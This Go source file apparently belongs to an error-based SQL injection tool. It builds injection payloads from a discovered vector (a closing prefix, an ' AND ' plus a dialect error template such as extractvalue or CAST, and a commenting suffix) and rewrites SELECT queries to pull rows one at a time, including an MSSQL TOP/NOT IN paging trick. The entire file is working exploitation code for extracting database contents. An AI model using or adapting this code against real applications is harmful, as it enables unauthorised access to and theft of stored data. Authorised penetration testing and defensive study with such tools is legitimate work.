// Package agent implements the PayloadBuilder/Agent contract consumed by
// the error-based extraction engine: splitting a SQL expression into its
// projected fields, building per-chunk injection payloads around the
// discovered injection vector, and rewriting expressions for per-row
// retrieval.
package agent

import (
	"regexp"
	"strconv"
	"strings"

	"github.com/dvorasec/errsqli/internal/dbms"
)

// selectFieldsPattern extracts the projected-columns substring from a
// "SELECT <fields> FROM ..." expression. Matching is case-insensitive and
// intentionally simple: the engine operates on whatever text the operator
// supplied, not a full SQL parser.
var selectFieldsPattern = regexp.MustCompile(`(?is)^\s*SELECT\s+(.*?)\s+FROM\s`)

// selectOnlyFieldsPattern matches a SELECT with no FROM clause (a scalar
// expression such as "SELECT @@version").
var selectOnlyFieldsPattern = regexp.MustCompile(`(?is)^\s*SELECT\s+(.*)$`)

// Vector describes the injection point discovered during detection:
// a prefix that closes the original query context, a suffix that comments
// out or otherwise neutralises the remainder of the original query, and
// the DBMS dialect used to render dialect-specific fragments.
type Vector struct {
	Prefix string
	Suffix string
	DBMS   dbms.DBMS
}

// Agent builds injection payloads and rewrites expressions for a fixed
// injection vector. One Agent is constructed per detected vulnerability
// and reused across every retrieval the Orchestrator drives through it.
type Agent struct {
	vector   Vector
	template string // dialect error-payload template containing "{{.Query}}"
}

// New constructs an Agent bound to a detected injection vector and the
// chosen DBMS error-payload template (e.g. extractvalue/updatexml for
// MySQL, CAST for PostgreSQL).
func New(vector Vector, template string) *Agent {
	return &Agent{vector: vector, template: template}
}

// GetFields splits the projected-columns substring out of expr and returns
// both the raw substring (fields_raw) and the ordered list of individual
// column expressions (fields_list). Splitting on "," is naive with respect
// to function calls containing commas, matching the pragmatic approach the
// underlying extraction protocol takes: operators are expected to supply
// expressions the engine can split this way.
func (a *Agent) GetFields(expr string) (fieldsRaw string, fieldsList []string) {
	if m := selectFieldsPattern.FindStringSubmatch(expr); m != nil {
		fieldsRaw = strings.TrimSpace(m[1])
	} else if m := selectOnlyFieldsPattern.FindStringSubmatch(expr); m != nil {
		fieldsRaw = strings.TrimSpace(m[1])
	} else {
		fieldsRaw = strings.TrimSpace(expr)
	}

	fieldsList = splitFields(fieldsRaw)
	return fieldsRaw, fieldsList
}

// splitFields splits a comma-separated projection list while respecting
// parenthesis nesting, so "SUBSTRING(a,1,2),b" splits into two fields, not
// four.
func splitFields(fieldsRaw string) []string {
	var fields []string
	depth := 0
	last := 0
	for i, r := range fieldsRaw {
		switch r {
		case '(':
			depth++
		case ')':
			depth--
		case ',':
			if depth == 0 {
				fields = append(fields, strings.TrimSpace(fieldsRaw[last:i]))
				last = i + 1
			}
		}
	}
	fields = append(fields, strings.TrimSpace(fieldsRaw[last:]))
	return fields
}

// NullAndCastField delegates to the bound DBMS's NullAndCastField, which
// wraps a field so a SQL NULL becomes a literal space in the rendered
// result instead of silently vanishing from the error message.
func (a *Agent) NullAndCastField(field string) string {
	return a.vector.DBMS.NullAndCastField(field)
}

// PrefixQuery returns the boundary prefix that closes the original query's
// context before the injected fragment begins.
func (a *Agent) PrefixQuery() string {
	return a.vector.Prefix
}

// SuffixQuery returns the boundary suffix appended after the injected
// fragment to neutralise whatever remains of the original query.
func (a *Agent) SuffixQuery() string {
	return a.vector.Suffix
}

// Payload renders the full injected fragment for newValue — the query
// expression to evaluate — by substituting it into the dialect error
// template and wrapping the result with the vector's prefix/suffix.
func (a *Agent) Payload(newValue string) string {
	rendered := strings.Replace(a.template, "{{.Query}}", newValue, 1)
	return a.vector.Prefix + " AND " + rendered + a.vector.Suffix
}

// LimitQuery rewrites expr — which RowPlanner has already stripped of any
// original LIMIT/TOP clause — into a single-row query selecting just field
// at 0-based row position num. firstField anchors the replacement so only
// the first projected column is swapped for the single field being
// retrieved (mirroring RowExpander's own substitution rule when fields_raw
// cannot be used directly). Dialects without a rewindable offset construct
// (Oracle) are never passed through here: RowPlanner disables row
// expansion for them.
func (a *Agent) LimitQuery(num int, expr, field, firstField string) string {
	limited := strings.Replace(expr, firstField, field, 1)
	d := a.vector.DBMS
	limit := d.LimitClause()

	switch {
	case limit.SupportsTop:
		// MSSQL/Sybase have no OFFSET; the standard trick is to select the
		// single row not present in the first num rows.
		withTop := strings.Replace(limited, "SELECT", "SELECT TOP 1", 1)
		if num > 0 {
			excluded := strings.Replace(limited, "SELECT", "SELECT TOP "+strconv.Itoa(num), 1)
			withTop += " WHERE " + field + " NOT IN (" + excluded + ")"
		}
		limited = withTop
	default:
		if clause := d.RowLimitQuery(num); clause != "" {
			limited += clause
		}
		// No rewritable pagination syntax (e.g. Oracle): leave expr as-is,
		// relying on the expression's own ROWNUM/row-selection clause.
	}
	return limited
}
